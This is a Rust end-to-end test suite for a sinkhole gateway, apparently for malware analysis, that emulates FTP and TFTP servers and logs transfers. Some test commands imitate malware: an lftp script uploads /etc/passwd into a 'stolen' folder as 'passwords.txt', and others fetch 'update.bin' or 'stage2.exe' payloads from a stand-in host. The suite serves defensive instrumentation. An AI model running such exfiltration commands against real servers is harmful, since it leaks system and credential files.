//! Files, put and fetched by curl, lftp and Python's ftplib: the bytes come over flows of their own.

use serde_json::{Value, json};
use testkit::Gateway;
use testkit::programs::{python_value, run, shell};

const SINKGATE: &str = env!("CARGO_BIN_EXE_sinkgate");

const SERVER: &str = "203.0.113.21";

fn start(programs: &[&str], arguments: &[&str]) -> Option<Gateway> {
    Gateway::start(SINKGATE, programs, arguments)
}

/// What curl prints that is told this.
fn curl(gateway: &Gateway, arguments: &str) -> String {
    let line = format!("curl -sSf --max-time 20 {arguments}");
    shell(&gateway.network.victim, &line).stdout
}

/// Every way to a file: in the clear and in TLS, the victim's data connection and ours, both families.
/// (TLS over ours is ftplib's: curl 7.88 never begins it.)
const WAYS: [&str; 7] = [
    "ftp://203.0.113.21",
    "ftp://203.0.113.21 --disable-epsv",
    "ftp://203.0.113.21 -P - --disable-eprt",
    "ftp://[2001:db8::21]",
    "ftp://[2001:db8::21] -P -",
    "ftp://203.0.113.21 --ssl-reqd -k",
    "ftps://203.0.113.21 -k",
];

/// Puts the file of a path after the host of a way.
fn with_path(way: &str, path: &str) -> String {
    match way.split_once(' ') {
        Some((url, options)) => format!("'{url}/{path}' {options}"),
        None => format!("'{way}/{path}'"),
    }
}

#[test]
#[ignore = "end to end: needs root"]
fn curl_fetches_and_puts_files_by_every_way() {
    let Some(gateway) = start(&["curl"], &[]) else { return };
    let loot = gateway.folder.written("loot.bin", vec![0xa5; 300_000]);
    for way in WAYS {
        let listing = curl(&gateway, &with_path(way, "pub/"));
        assert!(listing.lines().count() > 3 && listing.contains(" ftp "), "{way}: {listing}");
        assert_eq!(curl(&gateway, &with_path(way, "pub/a.txt")), "OK\n", "{way}");
        let put = format!("-T {} {}", loot.display(), with_path(way, "up/loot.bin"));
        assert_eq!(curl(&gateway, &put), "", "{way}");
    }
    gateway.database.expect(
        "SELECT artifact.bytes, artifact.name, completeness, count(*) AS count
         FROM artifact JOIN flow_end ON flow_end.flow = artifact.flow WHERE protocol = 'ftp-data' GROUP BY 1, 2, 3",
        &json!([
            {"bytes": 300_000, "name": "/up/loot.bin", "completeness": "whole", "count": 7},
        ]),
    );
    gateway.database.expect(
        "SELECT details ->> 'opened_by' AS opened_by, count(*) AS count FROM event
         WHERE kind = 'flow.companion' GROUP BY 1 ORDER BY 1",
        &json!([{"opened_by": "us", "count": 6}, {"opened_by": "victim", "count": 15}]),
    );
}

/// The next file of the second stage, in two parts: what is resumed is the same.
#[test]
#[ignore = "end to end: needs root"]
fn transfers_are_resumed() {
    let Some(gateway) = start(&["curl"], &[]) else { return };
    let half = |range: &str| {
        let line = format!("curl -sSf --max-time 20 -r {range} ftp://{SERVER}/setup.exe | md5sum");
        shell(&gateway.network.victim, &line).stdout
    };
    let whole = format!(
        "curl -sSf --max-time 20 ftp://{SERVER}/setup.exe -o whole && \
         head -c 100 whole > part && \
         curl -sSf --max-time 20 -C - ftp://{SERVER}/setup.exe -o part && cmp part whole"
    );
    shell(&gateway.network.victim, &format!("cd $(mktemp -d) && {whole}"));
    assert_ne!(half("0-99"), half("100-199"));
}

#[test]
#[ignore = "end to end: needs root"]
fn lftp_mirrors_and_looks_at_what_it_put() {
    let Some(gateway) = start(&["lftp"], &[]) else { return };
    for (host, settings) in [
        (SERVER, "set ftp:ssl-allow no;"),
        (SERVER, "set ftp:ssl-allow no; set ftp:passive-mode no;"),
        (SERVER, "set ftp:ssl-force yes; set ftp:ssl-protect-data yes;"),
        ("ftps://203.0.113.21", ""),
    ] {
        let script = format!(
            "set net:timeout 10; set net:max-retries 1; set ssl:verify-certificate no; {settings} \
             open -u bot,s3cret {host}; mkdir stolen; cd stolen; put /etc/hostname -o passwords.txt; \
             put /etc/passwd; ls; cat passwords.txt; mv passwords.txt moved.txt; cls -1; rm moved.txt; \
             cls -1; pwd; bye"
        );
        let outcome = run(&gateway.network.victim, "lftp", &["-c", &script]);
        assert!(outcome.status.success(), "{outcome:?}");
        let hostname = std::fs::read_to_string("/etc/hostname").unwrap();
        let lines: Vec<&str> = outcome.stdout.lines().collect();
        let (listing, rest) = lines.split_at(2);
        assert!(listing[0].ends_with(" passwd") && listing[1].ends_with(" passwords.txt"));
        assert_eq!(rest[0], hostname.trim_end());
        assert_eq!(rest[1..4], ["moved.txt", "passwd", "passwd"], "{outcome:?}");
    }
    let given = gateway.database.details("credentials.given", 4);
    assert!(given.iter().all(|given| given["user"] == "bot" && given["secret"] == "s3cret"));
}

#[test]
#[ignore = "end to end: needs root"]
fn ftplib_does_what_malware_does_with_it() {
    let Some(gateway) = start(&["python3"], &[]) else { return };
    let script = format!(
        "import ftplib, io, json, ssl\n\
         context = ssl._create_unverified_context()\n\
         def visit(server, is_passive):\n\
         \x20   server.login('bot', 's3cret')\n\
         \x20   if isinstance(server, ftplib.FTP_TLS): server.prot_p()\n\
         \x20   server.set_pasv(is_passive)\n\
         \x20   fetched, lines = [], []\n\
         \x20   server.retrbinary('RETR /tools/update.bin', fetched.append)\n\
         \x20   server.mkd('/drop'); server.cwd('/drop')\n\
         \x20   server.storbinary('STOR log.txt', io.BytesIO(b'x' * 10000))\n\
         \x20   server.storlines('APPE log.txt', io.BytesIO(b'end\\n'))\n\
         \x20   server.retrlines('MLSD', lines.append)\n\
         \x20   back = []\n\
         \x20   server.retrbinary('RETR log.txt', back.append, rest=9999)\n\
         \x20   facts = [(name, facts['size']) for name, facts in server.mlsd()]\n\
         \x20   names = server.nlst()\n\
         \x20   server.rename('log.txt', 'old.txt')\n\
         \x20   size = server.size('old.txt')\n\
         \x20   server.delete('old.txt')\n\
         \x20   said = server.quit()\n\
         \x20   return [len(b''.join(fetched)), len(lines), b''.join(back).decode(), facts, names, size, said]\n\
         plain = lambda: ftplib.FTP('{SERVER}', timeout=10)\n\
         wrapped = lambda: ftplib.FTP_TLS('{SERVER}', timeout=10, context=context)\n\
         print(json.dumps([visit(begin(), way) for begin in (plain, wrapped) for way in (True, False)]))"
    );
    let visits: Value = python_value(&gateway.network.victim, &script);
    let expected =
        json!([1_024, 1, "xend\r\n", [["log.txt", "10005"]], ["log.txt"], 10_005, "221 Goodbye."]);
    assert_eq!(visits, json!([expected, expected, expected, expected]));
    let commands = gateway.database.details("service.command", 52);
    assert_eq!(commands[0], json!({"protocol": "ftp", "command": "RETR /tools/update.bin"}));
}

/// A victim that asks us to connect to somebody else is refused, and nothing leaves.
#[test]
#[ignore = "end to end: needs root"]
fn nobody_else_is_ever_called() {
    let Some(gateway) = start(&["python3"], &[]) else { return };
    let script = format!(
        "import ftplib, json\n\
         server = ftplib.FTP('{SERVER}', timeout=10)\n\
         server.login()\n\
         def said(command):\n\
         \x20   try: return server.sendcmd(command)\n\
         \x20   except ftplib.Error as error: return str(error)\n\
         print(json.dumps([said(c) for c in ('PORT 192,0,2,9,7,208', 'EPRT |2|2001:db8::9|2000|', 'LIST')]))"
    );
    let said = python_value(&gateway.network.victim, &script);
    assert_eq!(
        said,
        json!([
            "500 Illegal PORT command",
            "500 Illegal EPRT command",
            "425 Unable to build data connection: Connection refused"
        ])
    );
    gateway
        .database
        .expect("SELECT count(*) AS flows FROM flow WHERE transport = 6", &json!([{"flows": 1}]));
}

#[test]
#[ignore = "end to end: needs root"]
fn so_many_are_called_at_once_and_no_more() {
    let Some(gateway) = start(&["python3"], &["--set", "limits.calls=1"]) else { return };
    let script = format!(
        "import ftplib, json\n\
         first, second = (ftplib.FTP('{SERVER}', timeout=10) for _ in range(2))\n\
         [server.login() for server in (first, second)]\n\
         [server.set_pasv(False) for server in (first, second)]\n\
         upload = first.transfercmd('STOR a')\n\
         try: second.nlst()\n\
         except ftplib.Error as error: refused = str(error)\n\
         upload.close(); first.voidresp()\n\
         import time; time.sleep(3)\n\
         print(json.dumps([refused, len(second.nlst()) > 2]))"
    );
    let said = python_value(&gateway.network.victim, &script);
    assert_eq!(said, json!(["425 Unable to build data connection: Connection refused", true]));
    gateway.database.expect(
        "SELECT details ->> 'limit' AS reached FROM event WHERE kind = 'limit.reached'",
        &json!([{"reached": "limits.calls"}]),
    );
}

#[test]
#[ignore = "end to end: needs root"]
fn the_analysts_own_files_are_served() {
    let Some(mut gateway) = Gateway::prepare(SINKGATE, &["curl"], &[]) else { return };
    let file = gateway.folder.written("Stage2.exe", "the real one");
    gateway.set_environment("SINKGATE_FTP_FILES", file.to_str().unwrap());
    gateway.set_environment("SINKGATE_FTP_ACCEPT", "bot:s3cret");
    gateway.begin();
    let url = format!("ftp://{SERVER}/any/folder/stage2.exe");
    assert_eq!(curl(&gateway, &format!("-u bot:s3cret {url}")), "the real one");
    let refused = run(&gateway.network.victim, "curl", &["-sS", "-u", "bot:wrong", &url]);
    assert_eq!(refused.status.code(), Some(67), "{refused:?}");
}

/// Runs these in a folder of its own, where `loot` is 100,000 bytes that are no text.
fn in_folder(gateway: &Gateway, script: &str) -> String {
    let loot = "python3 -c \"open('loot', 'wb').write(bytes(range(256)) * 390 + bytes(160))\"";
    let line = format!("cd $(mktemp -d) && {loot} && {script}");
    shell(&gateway.network.victim, &line).stdout
}

#[test]
#[ignore = "end to end: needs root"]
fn tftp_clients_fetch_and_put_files() {
    let Some(gateway) = start(&["tftp", "atftp", "curl"], &[]) else { return };
    for script in [
        format!("tftp -m binary {SERVER} -c get a.exe && tftp -m binary {SERVER} -c put loot"),
        format!("tftp -m ascii {SERVER} -c get a.exe && tftp -m binary {SERVER} -c put loot"),
        format!(
            "curl -sSf --max-time 20 tftp://{SERVER}/a.exe -o a.exe && curl -sSf -T loot tftp://{SERVER}/"
        ),
        format!(
            "curl -sSf --max-time 20 --tftp-blksize 8192 tftp://[2001:db8::69]/a.exe -o a.exe && \
             curl -sSf --tftp-blksize 60000 -T loot tftp://{SERVER}/"
        ),
        format!(
            "curl -sSf --tftp-no-options tftp://{SERVER}/a.exe -o a.exe && \
             curl -sSf --tftp-no-options -T loot tftp://{SERVER}/"
        ),
        format!("atftp -g -r a.exe {SERVER} && atftp -p -l loot {SERVER}"),
        format!(
            "atftp --option 'blksize 1428' --option 'tsize 0' --option 'windowsize 16' -g -r a.exe \
             {SERVER} && \
             atftp --option 'blksize 1428' --option 'windowsize 16' -p -l loot {SERVER}"
        ),
    ] {
        let fetched = in_folder(&gateway, &format!("{{ {script}; }} >&2 && head -c 2 a.exe"));
        assert_eq!(fetched, "MZ", "{script}");
    }
    gateway.database.expect(
        "SELECT bytes, completeness, hex(sha256) <> '' AS hashed, count(*) AS count FROM artifact
         WHERE source = 'tftp-upload' GROUP BY bytes, completeness, sha256",
        &json!([{"bytes": 100_000, "completeness": "whole", "hashed": 1, "count": 7}]),
    );
    gateway.database.expect(
        "SELECT count(*) AS broken FROM event WHERE kind = 'protocol.broke'",
        &json!([{"broken": 0}]),
    );
}
